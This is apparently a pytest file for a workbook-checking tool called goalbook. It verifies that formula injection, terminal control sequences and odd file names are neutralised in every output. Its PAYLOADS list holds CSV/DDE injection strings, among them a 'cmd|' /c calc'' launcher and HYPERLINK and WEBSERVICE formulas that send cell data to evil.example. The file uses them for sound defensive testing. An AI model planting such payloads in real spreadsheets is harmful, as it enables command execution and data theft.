"""Outputs never carry or cause harm: no text from a return becomes a formula in any workbook or
CSV goalbook writes, or a control sequence on a terminal; odd and long file names are checked
and shown escaped; copies that cannot be made faithfully are refused (issue 17: 1, 4, 5, 9)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from goalbook.annotate import write_annotated
from goalbook.annotate.patch import patch_package
from goalbook.annotate.report import report_content
from goalbook.annotate.rewrite import rewrite
from goalbook.check import CheckOptions, check_file
from goalbook.errors import GoalbookError
from goalbook.export import write_export
from goalbook.findings import FileResult, Finding, Severity
from goalbook.model import CellRef
from goalbook.names import NAME_MAX_BYTES, TEMP_ROOM, safe_name
from goalbook.output import csv_text, formula_like, json_text, printable, safe_cell
from goalbook.summary import Summary, write_summary
from tests.returns import Return

Convert = Callable[..., Path]
DDE = "=cmd|' /c calc'!A1"
PAYLOADS = (
    DDE,
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "+1+cmd|' /c calc'!A0",
    "-2+3",
    "@SUM(1,1)*cmd|' /c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
)
# Every character a terminal may act on: C0 (CR, LF, BEL, BS, NUL, ESC …), DEL, C1, bidi.
CONTROLS = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


def run(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "goalbook", *args], capture_output=True,
                          check=False, timeout=300)  # fmt: skip


def _bad(path: Path, **fields: str) -> Path:
    bad = Return()
    bad.row("驿站验收合格率")[4:7] = [2, 2, "篇"]
    bad.fields.update(fields)
    return bad.write(path)


# ----------------------------------------------------------------------------- 1: live formulas


def _formula_parts(path: Path) -> dict[str, int]:
    """Formula elements per worksheet part."""
    with zipfile.ZipFile(path) as zf:
        return {
            n: len(re.findall(rb"<f[\s>/]", zf.read(n)))
            for n in zf.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
        }


def _calc_on_load(path: Path) -> bool:
    with zipfile.ZipFile(path) as zf:
        return b"fullCalcOnLoad" in zf.read("xl/workbook.xml")


def test_rewritten_copy_writes_the_returns_text_as_text(tmp_path: Path) -> None:
    src = _bad(tmp_path / "=WEBSERVICE(1).xlsx", 项目名称=DDE)
    result, table = check_file(src, CheckOptions())
    assert table is not None and result.project == DDE
    rewrite(src, tmp_path / "copy.xlsx", result, "zh")
    before, after = _formula_parts(src), _formula_parts(tmp_path / "copy.xlsx")
    assert sum(after.values()) == sum(before.values())  # the return's totals, nothing more
    ws = openpyxl.load_workbook(tmp_path / "copy.xlsx").worksheets[0]
    facts = {ws.cell(r, 1).value: ws.cell(r, 2) for r in range(2, 10)}
    assert facts["项目"].value == DDE and facts["项目"].data_type == "s"
    assert facts["文件"].value == "=WEBSERVICE(1).xlsx" and facts["文件"].data_type == "s"


def test_a_copy_without_formulas_does_not_recalculate_on_load(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "plain"
    wb.save(tmp_path / "plain.xlsx")
    result = FileResult(str(tmp_path / "plain.xlsx"), "findings", unit=DDE, project=DDE)
    rewrite(tmp_path / "plain.xlsx", tmp_path / "copy.xlsx", result, "zh")
    assert not _calc_on_load(tmp_path / "copy.xlsx")
    assert sum(_formula_parts(tmp_path / "copy.xlsx").values()) == 0


def _hostile_result(text: str, source: Path) -> FileResult:
    finding = Finding("T105", "rate-as-count", Severity.ERROR, text, text, CellRef("S", 2, 1), text)
    name = text.replace("/", "_") + ".xlsx"
    return FileResult(str(source.parent / name), "findings", unit=text, project=text,
                      template=text, findings=(finding,), copy=name)  # fmt: skip


def _strings_only(path: Path, formulas: int = 0) -> None:
    assert sum(_formula_parts(path).values()) == formulas, path
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, cell.coordinate, cell.value)


formula_texts = st.builds(
    lambda start, body: start + body,
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "＝", "\t=", "\r\n="]),
    st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=30)),
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=formula_texts)
def test_no_text_from_a_return_becomes_a_formula_on_any_path(tmp_path: Path, text: str) -> None:
    assert formula_like(text)
    source = tmp_path / "src.xlsx"
    if not source.exists():
        wb = openpyxl.Workbook()
        wb.active.title = "S"
        wb.active["A1"] = "x"
        wb.save(source)
    result = _hostile_result(text, source)
    # the patched copy and the rewritten copy
    patch_package(
        source, tmp_path / "patched.xlsx", lambda names: report_content(result, "zh", names)
    )
    rewrite(source, tmp_path / "rewritten.xlsx", result, "zh")
    # the summary workbook
    summary = Summary()
    summary.add(result)
    summary.add(FileResult(text, "unreadable", error=text, error_code="S004"))
    write_summary(tmp_path / "summary.xlsx", summary)
    # export (xlsx and csv)
    frame = pd.DataFrame([{"file": text, "unit": text, "tier3": text, "annual_number": 1.0}])
    write_export(frame, tmp_path / "export.xlsx", force=True)
    write_export(frame, tmp_path / "export.csv", force=True)
    for name in ("patched.xlsx", "rewritten.xlsx", "summary.xlsx", "export.xlsx"):
        _strings_only(tmp_path / name)
    assert not _calc_on_load(tmp_path / "rewritten.xlsx")
    # check --format csv and the export csv: every cell stays text in a spreadsheet
    for data in (csv_text([result], "zh"), (tmp_path / "export.csv").read_text("utf-8-sig")):
        for row in csv.reader(io.StringIO(data)):
            assert not any(formula_like(cell) for cell in row), row


def test_csv_cells_neutralise_every_formula_start() -> None:
    for text in PAYLOADS:
        assert safe_cell(text).startswith("'")
    assert safe_cell("合格率≥95%") == "合格率≥95%"


# ----------------------------------------------------------------------------- 4: strict, templates

STRICT = [
    (b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
     b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
    (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
     b"http://purl.oclc.org/ooxml/officeDocument/relationships"),
    (b"http://schemas.openxmlformats.org/drawingml/2006/main",
     b"http://purl.oclc.org/ooxml/drawingml/main"),
]  # fmt: skip
BOOK_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLTX_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"
XLTM_CT = "application/vnd.ms-excel.template.macroEnabled.main+xml"


def _repack(
    src: Path, dest: Path, edit: Callable[[str, bytes], bytes], extra: dict[str, bytes]
) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for name in zin.namelist():
            zout.writestr(name, edit(name, zin.read(name)))
        for name, data in extra.items():
            zout.writestr(name, data)
    return dest


def strict_ooxml(good: Path, dest: Path) -> Path:
    """``good`` as a Strict Open XML package (as Excel's "Strict Open XML Spreadsheet" saves)."""

    def edit(name: str, data: bytes) -> bytes:
        for old, new in STRICT:
            data = data.replace(old, new)
        if name == "xl/workbook.xml":
            data = data.replace(b"<workbook ", b'<workbook conformance="strict" ', 1)
        return data

    return _repack(good, dest, edit, {})


def template_of(good: Path, dest: Path, content_type: str, macros: bool) -> Path:
    """``good`` typed as a template (.xltx, or .xltm with a macro project)."""

    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(BOOK_CT.encode(), content_type.encode())
            if macros:
                vba = (
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                )
                data = data.replace(b"</Types>", vba + b"</Types>")
        return data

    return _repack(good, dest, edit, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"} if macros else {})


def test_strict_ooxml_copy_is_refused_with_one_line(tmp_path: Path) -> None:
    src = strict_ooxml(_bad(tmp_path / "good.xlsx"), tmp_path / "strict.xlsx")
    result, table = check_file(src, CheckOptions())
    assert table is not None and result.findings  # checked correctly
    with pytest.raises(GoalbookError, match="Strict Open XML") as caught:
        write_annotated(src, result, tmp_path / "copy.xlsx")
    assert "\n" not in str(caught.value)
    assert not list(tmp_path.glob("*copy*"))  # no copy that lost the return's sheets
    done = run("check", str(src), "-o", str(tmp_path / "out"), "--format", "json")
    entry = json.loads(done.stdout)["files"][0]
    assert entry["status"] == "findings" and "Strict Open XML" in entry["error"]
    assert not list((tmp_path / "out").glob("*.xlsx"))
    text = run("check", str(src), "-o", str(tmp_path / "out2")).stdout.decode()
    assert "Strict Open XML" in text


@pytest.mark.parametrize(
    ("suffix", "content_type", "macros"), [(".xltx", XLTX_CT, False), (".xltm", XLTM_CT, True)]
)
def test_template_returns_get_a_workbook_copy(
    tmp_path: Path, suffix: str, content_type: str, macros: bool
) -> None:
    src = template_of(
        _bad(tmp_path / "good.xlsx"), tmp_path / f"return{suffix}", content_type, macros
    )
    result, table = check_file(src, CheckOptions())
    assert table is not None and result.findings
    dest = write_annotated(src, result, tmp_path / "copy.xlsx")
    with zipfile.ZipFile(dest) as zf:
        types = zf.read("[Content_Types].xml").decode()
    assert f'PartName="/xl/workbook.xml" ContentType="{BOOK_CT}"' in types.replace(" />", "/>")
    assert "template" not in types and "vbaProject" not in str(zipfile.ZipFile(dest).namelist())
    wb = openpyxl.load_workbook(dest)
    assert wb.sheetnames[0] == "审核报告" and len(wb.sheetnames) == 7 and not wb.template


@pytest.mark.libreoffice
def test_libreoffice_converts_template_copies(tmp_path: Path, soffice: Convert) -> None:
    src = template_of(_bad(tmp_path / "good.xlsx"), tmp_path / "return.xltx", XLTX_CT, False)
    result, _ = check_file(src, CheckOptions())
    dest = write_annotated(src, result, tmp_path / "copy.xlsx")
    again = openpyxl.load_workbook(soffice(dest, "xlsx", tmp_path / "lo"))
    assert again.sheetnames == openpyxl.load_workbook(dest).sheetnames
    assert again.worksheets[0]["A1"].value == "绩效目标表审核报告"


# ----------------------------------------------------------------------------- 5: terminal text


def test_printable_escapes_every_control_and_bidi_character() -> None:
    assert printable("a\rb\nc\td") == "a\\rb\\nc\\td"
    assert printable("\x07\x08\x00\x1b[2J\x7f\x85\x9b") == "\\x07\\x08\\x00\\x1b[2J\\x7f\\x85\\x9b"
    assert printable("\u202eabc\u2066\u200f\u2028") == "\\u202eabc\\u2066\\u200f\\u2028"
    assert printable(os.fsdecode(b"a\xff.xlsx")) == "a\\xff.xlsx"
    assert printable("驿站验收合格率 ≥95%") == "驿站验收合格率 ≥95%"


@given(st.text())
def test_printable_leaves_no_control_character(text: str) -> None:
    assert not CONTROLS.search(printable(text))
    assert not CONTROLS.search(json_text(json.dumps(text, ensure_ascii=False)))
    assert json.loads(json_text(json.dumps(text, ensure_ascii=False))) == text  # same data


FORGED = (
    "合格率&#13;\n/x.xlsx: 0 error, 0 warning, 0 info_x001B_[2K\u0085_x0007__x0008__x0000_\u202e."
)


def forged_cells(tmp: Path, name: str = "forged.xlsx") -> Path:
    """A return whose indicator name carries CR, LF, ESC, BEL, BS, NUL, a bidi override and a
    C1 control (written as a real client would: character references and _xHHHH_ escapes)."""
    bad = Return()
    bad.row("驿站验收合格率")[2] = "FORGE"
    bad.row("FORGE")[4:7] = [None, 2, "篇"]  # (its 中期 left empty: T101 warns there)
    good = bad.write(tmp / "plain.xlsx")

    def edit(part: str, data: bytes) -> bytes:
        hostile = b'<t xml:space="preserve">' + FORGED.encode() + b"</t>"
        return data.replace(b"<t>FORGE</t>", hostile)

    return _repack(good, tmp / name, edit, {})


def test_text_report_cannot_be_forged_by_cell_contents(tmp_path: Path) -> None:
    src = forged_cells(tmp_path)
    assert "\x1b" in check_file(src, CheckOptions())[0].findings[0].message
    done = run("check", str(src))
    out = done.stdout.decode()
    assert not CONTROLS.search(out.replace("\n", ""))
    lines = out.splitlines()
    assert lines[0].endswith("：1 个错误，1 个警告，0 个提示")
    assert not any(line.startswith("/x.xlsx") for line in lines)  # the forged line stays inside
    # the line break is folded into the message (a space), the other controls escaped
    assert "合格率 /x.xlsx: 0 error" in out and "\\x1b[2K\\x85\\x07\\x08\\x00\\u202e." in out
    csv_out = run("check", str(src), "--format", "csv").stdout.decode()
    assert not CONTROLS.search(csv_out.replace("\n", ""))
    json_out = run("check", str(src), "--format", "json").stdout.decode()
    assert not CONTROLS.search(json_out.replace("\n", ""))
    message = json.loads(json_out)["files"][0]["findings"][0]["message"]
    assert "\x1b[2K\x85\x07\x08\x00\u202e." in message  # JSON keeps the data exactly


def test_error_lines_and_export_messages_are_escaped(tmp_path: Path) -> None:
    odd = tmp_path / "a\x1b[2J\rgoalbook: 0 error\x07.xlsx"
    odd.write_bytes(b"not a workbook")
    for args in (("check", str(odd)), ("export", str(odd), "-o", str(tmp_path / "e.csv"))):
        done = run(*args)
        assert done.returncode == 2
        for stream in (done.stdout, done.stderr):
            assert not CONTROLS.search(stream.decode().replace("\n", "")), args
        assert (
            "a\\x1b[2J\\rgoalbook: 0 error\\x07.xlsx" in done.stdout.decode() + done.stderr.decode()
        )
    missing = run("check", str(tmp_path / "none\x1b[31m"))
    assert (
        missing.returncode == 2 and b"\x1b" not in missing.stderr and b"\\x1b[31m" in missing.stderr
    )


# ----------------------------------------------------------------------------- 9: odd file names


def test_safe_names_fit_in_255_bytes_with_a_temporary_suffix() -> None:
    used: set[str] = set()
    for stem in ("😀" * 61, "中" * 80, "中" * 200, "a" * 300, "👨‍👩‍👧" * 40):
        for _ in range(3):  # collisions add a number
            name = safe_name(stem + "-审核", used)
            assert len(name.encode()) + TEMP_ROOM <= NAME_MAX_BYTES
            assert name.endswith(".xlsx") and "\ufffd" not in name
            assert stem.startswith(name.split("-")[0][:10])  # cut at characters, not inside one
    assert safe_name(os.fsdecode(b"a\xff\xfe"), set()) == "a__.xlsx"


@pytest.mark.parametrize("stem", ["😀" * 61, "中" * 80], ids=["emoji", "chinese"])
def test_long_names_are_checked_and_copied(tmp_path: Path, stem: str) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(Return().write(tmp_path / "good.xlsx"), folder / f"{stem}.xlsx")
    shutil.copy(tmp_path / "good.xlsx", folder / f"{stem[:-1]}b.xlsx")
    done = run("check", str(folder), "-o", str(tmp_path / "out"), "--format", "json")
    assert done.returncode == 0, done.stderr.decode()
    files = json.loads(done.stdout)["files"]
    assert [f["status"] for f in files] == ["ok", "ok"] and all(f["error"] is None for f in files)
    copies = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert len(copies) == 3  # two copies and the summary
    for name in copies:
        openpyxl.load_workbook(tmp_path / "out" / name)


def test_names_that_are_not_utf8_are_checked_and_shown_escaped(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    good = Return().write(tmp_path / "good.xlsx")
    raw = os.fsencode(folder)
    for name in (b"a\xff.xlsx", b"b\xfe\x1b[31m.xlsx"):
        shutil.copy(good, os.path.join(raw, name))
    odd = Path(os.fsdecode(os.path.join(raw, b"a\xff.xlsx")))
    result, table = check_file(odd, CheckOptions())
    assert table is not None and result.status == "ok", result.error  # not S004 "re-save"
    text = run("check", str(folder))
    assert text.returncode == 0, text.stdout.decode(errors="replace")
    out = text.stdout.decode()  # valid UTF-8: the odd bytes are shown escaped
    assert "a\\xff.xlsx — 通过" in out and "b\\xfe\\x1b[31m.xlsx — 通过" in out
    done = run("check", str(folder), "-o", str(tmp_path / "out"), "--format", "json")
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    paths = [f["path"] for f in json.loads(done.stdout)["files"]]
    names = [os.path.join(raw, b"a\xff.xlsx"), os.path.join(raw, b"b\xfe\x1b[31m.xlsx")]
    assert [os.fsencode(p) for p in paths] == names  # the same names, exactly
    summary = openpyxl.load_workbook(tmp_path / "out" / "汇总.xlsx").worksheets[0]
    assert {summary.cell(r, 1).value for r in (2, 3)} == {"a\\xff.xlsx", "b\\xfe\\x1b[31m.xlsx"}
    copies = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert copies == ["a_-审核.xlsx", "b__[31m-审核.xlsx", "汇总.xlsx"]
    export = run("export", str(folder), "-o", str(tmp_path / "all.csv"))
    assert export.returncode == 0, export.stderr.decode(errors="replace")
    assert "a\\xff.xlsx" in (tmp_path / "all.csv").read_text("utf-8-sig")
